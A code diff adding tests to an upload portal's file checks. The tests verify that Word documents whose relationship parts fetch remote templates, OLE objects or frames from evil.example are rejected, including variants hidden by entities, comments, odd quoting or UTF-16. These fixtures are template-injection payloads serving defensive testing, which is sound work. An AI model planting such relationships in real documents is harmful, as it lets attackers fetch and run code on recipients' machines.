@@ -1,10 +1,15 @@
+import { randomBytes } from 'node:crypto';
+import { rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { deflateSync, gzipSync } from 'node:zlib';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
 import { docx, pngBytes, zip } from '../../../test/files/samples.ts';
 import type { TestClient } from '../../../test/support/client.ts';
 import { pdfBytes } from '../../../test/support/make-files.ts';
 import { upload } from '../../../test/support/multipart.ts';
 import { testPortal } from '../../../test/support/portal.ts';
+import { inspectFile } from './inspect/inspect-file.ts';
 
 const portal = testPortal();
 let admin: TestClient;
@@ -178,6 +183,50 @@ describe('a container that would burst or hides something is refused', () => {
     ],
   ] as const)('%s', async (_, bytes, code) => {
     expect(await upload(admin, 'letter.docx', bytes)).toBeProblem(code);
+  });
+});
+
+const related = (part: string) => zip([...office, { name: 'word/_rels/settings.xml.rels', content: part }]);
+const typeOf = (name: string) =>
+  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
+const relation = (type: string, target: string, more = 'TargetMode="External"') =>
+  related(
+    `<?xml version="1.0"?>\n<Relationships><Relationship Id="rId1" Type="${typeOf(type)}" Target="${target}" ${more}/></Relationships>`,
+  );
+
+describe('a document that makes an office program fetch what may run is refused, and no other', () => {
+  test.each([
+    ['a template', relation('attachedTemplate', 'https://evil.example/a.dotm')],
+    ['a template of a share', relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm')],
+    ['a template of a server', relation('attachedTemplate', '//evil.example/a.dotm')],
+    ['an object', relation('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/a')],
+    ['a page in a frame', relation('frame', ' http://evil.example/')],
+    [
+      'behind marks that mislead',
+      related(
+        `<R Id=">" x=" Target='" Type='${typeOf('oleObject')}' Target='http://evil.example' TargetMode = 'External' y="'"/>`,
+      ),
+    ],
+    ['in letters of numbers', relation('attached&#84;emplate', 'https://evil.example/a.dotm')],
+    ['behind a comment', related(`<!-- > --><R/>`)],
+    ['in other letters', related(Buffer.from('\ufeff<R/>', 'utf16le').toString('latin1'))],
+    ['in more than a megabyte', related(`<R x="${randomBytes(3_200_000).toString('base64')}"/>`)],
+  ])('%s', async (_, bytes) => {
+    expect(await upload(admin, 'letter.docx', bytes)).toBeProblem('file_type_not_allowed');
+  });
+
+  test.each([
+    ['a link', relation('hyperlink', 'https://example.org/?a=1&amp;b=2')],
+    ["its author's template", relation('attachedTemplate', "file:///C:\\Users\\O'Brien\\Letter.dotx")],
+    ['a template of this machine', relation('attachedTemplate', '/Users/ama/Letter.dotx')],
+    ['an object inside', relation('oleObject', 'embeddings/oleObject1.xlsx', '')],
+  ])('not %s', async (name, bytes) => {
+    const path = join(tmpdir(), `portal-${process.pid}-${name.length}.docx`);
+    await writeFile(path, bytes);
+    onTestFinished(() => rm(path));
+    expect(await inspectFile({ path, size: bytes.length }, 'letter.docx')).toMatchObject({
+      kind: 'document',
+    });
   });
 });
 
